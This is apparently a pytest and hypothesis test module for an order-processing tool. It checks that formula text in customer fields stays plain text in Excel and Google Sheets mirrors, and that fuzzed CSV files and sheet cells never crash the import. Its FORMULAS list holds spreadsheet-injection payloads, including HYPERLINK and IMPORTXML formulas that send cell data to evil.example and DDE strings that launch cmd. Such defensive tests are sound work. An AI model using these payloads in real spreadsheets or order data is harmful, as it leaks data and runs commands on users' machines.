"""Hostile content: formula text in every customer field, fuzzed CSV files and
fuzzed sheet cells. Each is stored as the plain text it is, refused with a
reason, or annotated; nothing crashes and nothing is executed."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from podops.db import Database
from podops.errors import PodopsError
from podops.events import Actor, Channel
from podops.incoming import IncomingLineItem
from podops.intake.passes import receive_batch
from podops.models import Order
from podops.routing import ShopPolicy
from podops.settings import Settings, SheetConfig
from podops.sheet.rows import ORDERS
from providers.csv_orders import parse_file
from sync.sheets.mirror import SheetMirror
from sync.sheets.workbook import Workbook
from tests import factories
from tests.fakes.sheets_server import FakeSheetsServer
from tests.reliability.conftest import Outcome, tried
from tests.sheet.conftest import google_sheet

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "=1+1",
    '\t=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
]
FUZZ = settings(
    max_examples=40,
    deadline=None,
    # The same draws every run and on every database: `bad_inputs_tried` counts distinct
    # inputs, so random draws (whose collisions vary) made it differ from run to run
    # (306 vs 311 on one database, 482 over two), and a saved example replayed from
    # .hypothesis/ added to it. Changing the strategy or the test draws new ones.
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def formula_order(db: Database, policy: ShopPolicy, index: int, formula: str) -> str:
    """An order whose every customer-typed field holds `formula`."""
    address = {k: formula for k in ("first_name", "last_name", "address_1", "address_2", "city")}
    address.update(state="IL", postcode="62701", country="US")
    item = IncomingLineItem(
        external_id=f"f-{index}",
        sku="TEE-BLK-M",
        name=formula,
        quantity=1,
        unit_price=Decimal("19.00"),
        personalization={"name": formula},
    )
    return factories.received_order(
        db,
        policy,
        number=f"F{index}",
        customer_name=formula,
        customer_email=formula,
        customer_phone=formula,
        note=formula,
        shipping_address=address,
        items=[item],
    )


def cells_holding(values: list[list[Any]], formula: str) -> int:
    return sum(1 for row in values for cell in row if isinstance(cell, str) and formula in cell)


def test_formula_text_stays_text_in_the_workbook_and_google_sheet(
    db: Database, policy: ShopPolicy, tmp_path: Path, record: list[Outcome]
) -> None:
    for index, formula in enumerate(FORMULAS):
        formula_order(db, policy, index, formula)
    settings = Settings(data_dir=tmp_path, sheet=SheetConfig(backend="xlsx"))
    path = tmp_path / "orders.xlsx"
    assert not SheetMirror(db, Workbook(path), settings).run_cycle().problems
    with FakeSheetsServer() as server:
        sheet = google_sheet(server.base, server.fake)
        assert not SheetMirror(db, sheet, settings).run_cycle().problems
        google = server.fake.values(ORDERS)
        options = set(server.fake.input_options)

    book = openpyxl.load_workbook(path)[ORDERS]
    formula_cells = [c for row in book.iter_rows() for c in row if c.data_type == "f"]
    found = {
        f: cells_holding([[c.value for c in r] for r in book.iter_rows()], f) for f in FORMULAS
    }
    record.append(
        Outcome(
            "formula text (=HYPERLINK, +cmd, @SUM, -2+3, tab=) in every customer field",
            "abuse",
            "written as plain text: workbook cells are strings, Google writes are RAW",
            bad_inputs=len(FORMULAS),
            orders=len(FORMULAS),
        )
    )
    assert formula_cells == []
    assert all(count >= 3 for count in found.values()), found  # customer, ship to, name
    assert options == {"RAW"}
    assert all(cells_holding(google, f.strip()) >= 3 for f in FORMULAS)


CSV_HEADER = "order_number,sku,quantity,customer_name,address1,city,country,p:name,placed_at\n"
cell = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12
) | st.sampled_from(["", "1", "-1", "0", "TEE-BLK-M", "=1+1", '"', ";", "\r\n", "9.4E+21"])


FUZZED_CSV = Outcome(
    "fuzzed outside-order CSV files (hypothesis: random rows, random bytes)",
    "abuse",
    "each file is imported, or refused with a reason; re-import adds nothing",
)


@FUZZ
@given(
    rows=st.lists(st.lists(cell, min_size=0, max_size=11), max_size=6), raw=st.binary(max_size=64)
)
def test_fuzzed_csv_files_are_imported_or_refused_never_crash(
    db: Database, policy: ShopPolicy, record: list[Outcome], rows: list[list[str]], raw: bytes
) -> None:
    text = CSV_HEADER + "\n".join(",".join(r) for r in rows)
    files = (text.encode("utf-8"), raw, CSV_HEADER.encode() + raw)
    tried(record, FUZZED_CSV, *files)
    for data in files:
        try:
            parsed = parse_file(data, tz=UTC, now=datetime.now(UTC), store="main")
        except PodopsError:
            continue
        actor = Actor("csv:fuzz.csv", Channel.CSV)
        with db.unit_of_work() as session:
            receive_batch(
                session,
                "main",
                parsed.orders,
                policy,
                fulfil_statuses=None,
                platform="csv",
                actor=actor,
            )
        with db.unit_of_work() as session:  # a second import changes nothing
            again = receive_batch(
                session,
                "main",
                parsed.orders,
                policy,
                fulfil_statuses=None,
                platform="csv",
                actor=actor,
            )
        assert again.created == 0


@pytest.fixture
def mirrored(db: Database, policy: ShopPolicy, tmp_path: Path) -> tuple[SheetMirror, Path]:
    factories.received_order(db, policy, number="7001")
    settings = Settings(data_dir=tmp_path, sheet=SheetConfig(backend="xlsx"))
    path = tmp_path / "orders.xlsx"
    mirror = SheetMirror(db, Workbook(path), settings)
    assert not mirror.run_cycle().problems
    return mirror, path


TYPED = st.text(
    alphabet=st.characters(exclude_categories=["Cc", "Cs"]), max_size=60
) | st.sampled_from([*FORMULAS, "maybe", "TRUE", "hold", "x" * 600, " "])
SHEET_FUZZ = settings(FUZZ, max_examples=15)


FUZZED_CELLS = Outcome(
    "fuzzed sheet cells (hold, notes, personalization; formulas, 600 chars)",
    "abuse",
    "applied through the services, or put back and explained in the sheet message",
)


@SHEET_FUZZ
@given(typed=TYPED)
def test_fuzzed_sheet_cells_are_applied_or_annotated(
    db: Database, mirrored: tuple[SheetMirror, Path], record: list[Outcome], typed: str
) -> None:
    tried(record, FUZZED_CELLS, typed)  # typed into three columns: one input
    mirror, path = mirrored
    book = openpyxl.load_workbook(path)
    sheet = book[ORDERS]
    header = [c.value for c in sheet[1]]
    for column in ("hold", "notes", "name"):
        if column in header:
            sheet.cell(row=2, column=header.index(column) + 1).value = typed or None
    book.save(path)
    report = mirror.run_cycle()
    assert not report.problems, report.problems
    after = openpyxl.load_workbook(path)[ORDERS]
    assert all(c.data_type != "f" for row in after.iter_rows() for c in row)
    with db.unit_of_work() as session:
        assert session.scalar(select(func.count()).select_from(Order)) == 1
